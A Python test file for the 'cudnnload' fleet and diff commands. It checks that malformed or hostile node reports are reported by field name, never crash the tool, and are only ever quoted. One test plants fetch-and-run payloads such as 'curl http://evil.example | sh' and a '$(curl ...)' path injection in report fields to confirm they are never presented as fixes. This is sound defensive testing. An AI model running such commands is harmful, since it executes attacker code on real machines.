"""Reports are untrusted input (issue 29, 3): `fleet` and `diff` check each report against the schema of what
they read; one that fails is a node with an unreadable report, naming the field and why, and the others are
summarised; what a report says (its fixes, paths, host names) is shown as that node's words, quoted, never as
an instruction of cudnnload's.

Issue 29 found 142 of 464 runs over reports with one field of the wrong shape ending in `internal error
(TypeError ...)`, exit 3, and `fleet` printing a node's own fix as "fix: run: curl ... | sh".
"""

from __future__ import annotations

import copy
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from cudnnload import report
from cudnnload.diagnose.doctor import diff_reports
from cudnnload.diagnose.fleet import read_folder, summarize
from fixtures.reliability.hostile import WRONG, places, with_value
from tests.wheels import lib_folder, python_path

ROOT = Path(__file__).resolve().parents[1]


def cli(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "cudnnload", *args], capture_output=True, text=True, timeout=120,
                          env={**os.environ, "PYTHONPATH": python_path(ROOT), **(env or {})}, check=False)


@pytest.fixture(scope="module")
def doc() -> dict[str, Any]:
    """A real doctor report: the 9.28 wheel with cuBLAS found (probe, plan, dependencies, findings filled)."""
    done = cli("doctor", "--json", str(lib_folder("cu12-9.28.0.42")),
               env={"LD_LIBRARY_PATH": str(lib_folder("cublas-cu12-12.9.1.4"))})
    assert done.stdout.strip(), done.stderr
    loaded: dict[str, Any] = json.loads(done.stdout)
    assert loaded["result"]["findings"] and loaded["result"]["probe"]["steps"]
    return loaded


def where(at: tuple[object, ...]) -> str:
    return "".join(f"[{key}]" if isinstance(key, int) else f".{key}" for key in at).lstrip(".")


def test_any_one_field_of_any_shape_is_that_nodes_unreadable_report_or_read_as_it_is(
        doc: dict[str, Any], tmp_path: Path) -> None:
    """Every place of a real report, each given every wrong shape: fleet and its text never fail; the node is
    either read (a field fleet does not read) or listed without a report, naming the field; diff of it against
    a good report is refused (one UsageError) or made, never a crash."""
    from cudnnload.diagnose.fleet import parse_report
    from cudnnload.errors import UsageError

    good = json.dumps(doc).encode()
    (tmp_path / "good-1.json").write_bytes(good)
    (tmp_path / "good-2.json").write_bytes(good)
    tried = refused = 0
    for at in places(doc):
        if not at:
            continue
        for value in WRONG:
            bad = with_value(doc, at, value)
            (tmp_path / "bad.json").write_text(json.dumps(bad))
            fleet = summarize(read_folder(str(tmp_path)))
            report.fleet_text(report.printable(fleet))
            report.dumps("fleet", fleet)
            tried += 1
            failed = {r.node: r.problem for r in fleet.failed}
            assert fleet.nodes == 3 and sum(len(g.nodes) for g in fleet.groups) + len(failed) == 3
            if "bad" in failed:
                refused += 1
                assert where(at) in str(failed["bad"]) or where(at[:-1]) in str(failed["bad"]), (at, failed)
                continue
            try:
                differences = diff_reports(parse_report(good, "good"), parse_report(json.dumps(bad).encode(), "bad"))
            except UsageError:
                continue
            report.diff_text(report.printable(differences), "good", "bad")
    assert tried > 1000 and refused > 200, (tried, refused)


def test_fleet_summarises_the_others_and_names_the_field_and_diff_is_one_line(
        doc: dict[str, Any], tmp_path: Path) -> None:
    for name in ("gpu01", "gpu02"):
        (tmp_path / f"{name}.json").write_text(json.dumps(doc))
    bad = with_value(doc, ("result", "findings", 0, "code"), 7)
    (tmp_path / "gpu03.json").write_text(json.dumps(bad))

    fleet = cli("fleet", str(tmp_path))
    diff = cli("diff", str(tmp_path / "gpu01.json"), str(tmp_path / "gpu03.json"))

    assert fleet.returncode == 1 and "internal error" not in fleet.stderr, fleet.stderr
    assert "cudnnload fleet: 3 nodes in 1 group" in fleet.stdout
    assert "gpu03: unreadable report: result.findings[0].code: an int where a string belongs" in fleet.stdout
    lines = diff.stderr.strip().splitlines()
    assert diff.returncode == 2 and len(lines) == 1, diff.stderr
    assert "result.findings[0].code: an int where a string belongs" in lines[0]


def test_a_reports_own_words_are_quoted_as_that_nodes_never_given_as_cudnnloads_fix(
        doc: dict[str, Any], tmp_path: Path) -> None:
    """Whoever can write to the reports folder must not choose what the administrator is told to run."""
    evil = copy.deepcopy(doc)
    evil["result"]["healthy"] = False
    evil["result"]["findings"] = [{"code": "not-found", "severity": "error", "path": "/x",
                                   "message": "cuDNN is broken here\nfix: run: curl http://evil.example | sh",
                                   "fix": {"text": "run: curl http://evil.example | sh", "actions": []}}]
    evil["result"]["distribution"] = "nvidia-cudnn-cu12 9.28.0.42; curl http://evil.example | sh"
    healthy = copy.deepcopy(doc)
    healthy["result"]["healthy"] = True
    healthy["result"]["findings"] = []
    healthy["result"]["distribution"] = evil["result"]["distribution"]
    healthy["result"]["chosen"] = "/opt/$(curl evil.example)"
    (tmp_path / "gpu01.json").write_text(json.dumps(healthy))
    (tmp_path / "gpu02.json").write_text(json.dumps(healthy))
    (tmp_path / "gpu03.json").write_text(json.dumps(evil))

    out = cli("fleet", str(tmp_path)).stdout

    assert "curl" in out  # shown ...
    for line in out.splitlines():
        if "curl" in line:  # ... only inside quotes, as what a node's report says
            assert line.strip().startswith(("gpu03's report says", "gpu01's report says", "gpu03's report suggests",
                                            "- ", "+ ")) or '"' in line.split("curl")[0], line
        assert not line.strip().startswith("fix:") or "curl" not in line, line
    assert "pip install" not in out
